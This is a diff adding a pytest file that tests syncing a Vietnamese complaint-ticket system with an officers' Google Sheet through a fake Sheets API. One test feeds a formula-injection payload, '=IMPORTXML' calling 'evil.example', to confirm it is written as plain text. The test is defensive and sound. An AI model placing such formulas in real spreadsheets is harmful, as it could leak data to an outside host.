@@ -1,0 +1,194 @@
+"""The officers' sheet, driven through the real gspread client against the fake Sheets API."""
+from __future__ import annotations
+
+import pytest
+from sqlalchemy import select
+
+from sheets_sync.fake_sheets import FakeSheetsServer, FakeSheetsState
+from sheets_sync.layout import BOARD, COL, OFFICERS
+from sheets_sync.sync import SheetSync
+from storage import tickets
+from storage.db import session_scope
+from storage.models import LearnedExample, OutboundMessage, Resident, Ticket, TicketEvent
+from tests.support import message_text
+
+
+@pytest.fixture()
+def fake_sheets():
+    with FakeSheetsServer(FakeSheetsState("sheet-1")) as server:
+        yield server
+
+
+@pytest.fixture()
+def sheet_settings(settings, fake_sheets):
+    return settings.with_overrides(sheet_id="sheet-1", google_sheets_api_base=fake_sheets.base_url)
+
+
+@pytest.fixture()
+def syncer(sheet_settings, monkeypatch):
+    monkeypatch.setattr("sheets_sync.client.BoundedHTTPClient.sleep", staticmethod(lambda s: None))
+    return SheetSync(sheet_settings)
+
+
+def make_ticket(text="Đèn đường ngõ 12 tổ 5 bị hỏng", resident=None, **kw) -> str:
+    with session_scope() as s:
+        t = tickets.create_ticket(s, kind=kw.pop("kind", "complaint"), text=text, actor="test",
+                                  resident_id=resident, **kw)
+        return t.code
+
+
+def board(fake) -> list[list[str]]:
+    return fake.state.rows(BOARD)
+
+
+def row_of(fake, code) -> list[str]:
+    return next(r for r in board(fake) if r and r[0] == code)
+
+
+def find_row_index(fake, code) -> int:
+    return next(i for i, r in enumerate(board(fake)) if r and r[0] == code)
+
+
+def add_officer(fake, name="Nguyễn Văn An", zalo="900000000000000002"):
+    fake.state.set_cell(OFFICERS, len(fake.state.sheets[OFFICERS].rows), 0, name)
+    i = len(fake.state.sheets[OFFICERS].rows) - 1
+    fake.state.set_cell(OFFICERS, i, 1, zalo)
+
+
+def test_first_cycle_creates_formatted_board_and_pushes_tickets(syncer, fake_sheets):
+    code = make_ticket(reporter_phone="0901234567", reporter_name="Bác Lan")
+    report = syncer.run_cycle()
+    sheet = fake_sheets.state.sheets[BOARD]
+    assert board(fake_sheets)[0][:3] == ["Mã phiếu", "Thời gian nhận", "Kênh"]
+    assert sheet.frozen_rows == 1
+    ranges = {v["range"]["startColumnIndex"] for v in sheet.validations}
+    assert {COL["Trạng thái"], COL["Người xử lý"], COL["Loại"], COL["Lĩnh vực"]} <= ranges
+    protected = {p["range"]["startColumnIndex"] for p in sheet.protected}
+    assert COL["Mã phiếu"] in protected and COL["Trạng thái"] not in protected
+    row = row_of(fake_sheets, code)
+    assert row[COL["Trạng thái"]] == "Mới tiếp nhận"
+    assert row[COL["Người gửi"]] == "Bác Lan — 090****567"  # phone masked
+    assert report.appended == 1
+
+
+def test_resident_text_is_written_raw_never_as_a_formula(syncer, fake_sheets):
+    code = make_ticket(text='=IMPORTXML("http://evil.example","//a")')
+    syncer.run_cycle()
+    i = find_row_index(fake_sheets, code)
+    cell = fake_sheets.state.raw_cell(BOARD, i, COL["Nội dung"])
+    assert cell.value.startswith("=IMPORTXML") and not cell.formula
+
+
+def test_steady_state_costs_a_constant_small_number_of_requests(syncer, fake_sheets):
+    for i in range(10):
+        make_ticket(f"Rác thải ngõ {i}")
+    syncer.run_cycle()
+    small = syncer.run_cycle().requests
+    for i in range(300):
+        make_ticket(f"Ổ gà đường số {i}")
+    assert syncer.run_cycle().requests <= 4  # new rows: one append
+    big = syncer.run_cycle().requests
+    assert small == big == 2  # nothing changed: metadata + one batchGet
+
+
+def test_officer_edit_applied_audited_and_resident_notified(syncer, fake_sheets, bot):
+    bot.say("Đèn đường ngõ 12 tổ 5 bị hỏng")
+    bot.say("Không có ảnh")
+    bot.say("Gửi phản ánh")
+    with session_scope() as s:
+        code = s.scalar(select(Ticket.code))
+    syncer.run_cycle()
+    add_officer(fake_sheets)
+    i = find_row_index(fake_sheets, code)
+    fake_sheets.state.set_cell(BOARD, i, COL["Người xử lý"], "Nguyễn Văn An")
+    fake_sheets.state.set_cell(BOARD, i, COL["Trạng thái"], "Đã giải quyết")
+    fake_sheets.state.set_cell(BOARD, i, COL["Trả lời người dân"], "Điện lực đã thay bóng đèn.")
+    report = syncer.run_cycle()
+    assert report.edits_applied == 3
+    with session_scope() as s:
+        t = s.scalar(select(Ticket))
+        assert (t.status, t.assignee) == ("resolved", "Nguyễn Văn An")
+        audit = {(e.field, e.old_value, e.new_value) for e in s.scalars(select(TicketEvent))}
+    assert ("status", "new", "resolved") in audit and ("assignee", None, "Nguyễn Văn An") in audit
+    bot.run_until_idle()
+    msgs = [message_text(m) for m in bot.new_messages()]
+    assert any("đã được giải quyết" in m and "thay bóng đèn" in m for m in msgs)
+    assert any("1 đến 5 sao" in m for m in msgs)
+    # replaying the same cycle changes nothing and sends nothing twice
+    assert syncer.run_cycle().edits_applied == 0
+    bot.run_until_idle()
+    assert bot.new_messages() == []
+
+
+def test_invalid_values_are_flagged_not_applied(syncer, fake_sheets):
+    code = make_ticket()
+    syncer.run_cycle()
+    i = find_row_index(fake_sheets, code)
+    fake_sheets.state.set_cell(BOARD, i, COL["Trạng thái"], "Xong rồi")
+    fake_sheets.state.set_cell(BOARD, i, COL["Người xử lý"], "Người lạ")
+    report = syncer.run_cycle()
+    assert report.edits_applied == 0 and report.edits_rejected == 2
+    row = row_of(fake_sheets, code)
+    assert row[COL["Trạng thái"]] == "Mới tiếp nhận"  # the service's value is written back
+    assert "Xong rồi" in row[COL["Ghi chú hệ thống"]] and "Người lạ" in row[COL["Ghi chú hệ thống"]]
+    with session_scope() as s:
+        assert s.scalar(select(Ticket.status)) == "new"
+
+
+def test_rows_are_found_by_code_after_sorting_and_deleted_rows_restored(syncer, fake_sheets):
+    codes = [make_ticket(f"Phản ánh số {i}") for i in range(5)]
+    syncer.run_cycle()
+    fake_sheets.state.sort_by_column(BOARD, COL["Nội dung"], reverse=True)
+    i = find_row_index(fake_sheets, codes[1])
+    fake_sheets.state.set_cell(BOARD, i, COL["Trạng thái"], "Đang xử lý")
+    fake_sheets.state.delete_row(BOARD, find_row_index(fake_sheets, codes[3]))
+    report = syncer.run_cycle()
+    assert report.restored == 1 and report.edits_applied == 1
+    with session_scope() as s:
+        assert tickets.by_code(s, codes[1]).status == "in_progress"
+        assert tickets.by_code(s, codes[0]).status == "new"
+    assert sorted(r[0] for r in board(fake_sheets)[1:]) == sorted(codes)
+
+
+def test_rows_with_unknown_or_empty_code_are_flagged_not_imported(syncer, fake_sheets):
+    make_ticket()
+    syncer.run_cycle()
+    n = len(fake_sheets.state.sheets[BOARD].rows)
+    fake_sheets.state.set_cell(BOARD, n, 0, "PA-2026-9999")
+    fake_sheets.state.set_cell(BOARD, n, COL["Nội dung"], "dòng tự thêm")
+    fake_sheets.state.set_cell(BOARD, n + 1, COL["Nội dung"], "không có mã")
+    report = syncer.run_cycle()
+    assert report.flagged == 2
+    rows = board(fake_sheets)
+    assert "không có trong hệ thống" in rows[n][COL["Ghi chú hệ thống"]]
+    assert "không có Mã phiếu" in rows[n + 1][COL["Ghi chú hệ thống"]]
+    with session_scope() as s:
+        assert len(list(s.scalars(select(Ticket)))) == 1
+
+
+def test_kind_and_topic_corrections_feed_learning(syncer, fake_sheets):
+    code = make_ticket(text="Hàng xóm hát karaoke tới 1 giờ sáng", topic="environment")
+    syncer.run_cycle()
+    i = find_row_index(fake_sheets, code)
+    fake_sheets.state.set_cell(BOARD, i, COL["Lĩnh vực"], "Văn hóa, tiếng ồn, khác")
+    syncer.run_cycle()
+    with session_scope() as s:
+        ex = s.scalar(select(LearnedExample))
+        assert ex is not None and ex.topic == "culture_other" and ex.source == "sheet"
+
+
+def test_429_is_retried_boundedly_and_persistent_500_fails_cleanly(syncer, fake_sheets):
+    from sheets_sync.client import SheetsUnavailable
+
+    code = make_ticket()
+    fake_sheets.state.fail(429, times=2)
+    assert syncer.run_cycle().appended == 1
+    i = find_row_index(fake_sheets, code)
+    fake_sheets.state.set_cell(BOARD, i, COL["Trạng thái"], "Đang xử lý")
+    fake_sheets.state.fail(500, times=100)
+    with pytest.raises(SheetsUnavailable):
+        syncer.run_cycle()
+    with session_scope() as s:
+        assert s.scalar(select(Ticket.status)) == "new"  # nothing half-applied
+    fake_sheets.state.failures.clear()
+    assert syncer.run_cycle().edits_applied == 1
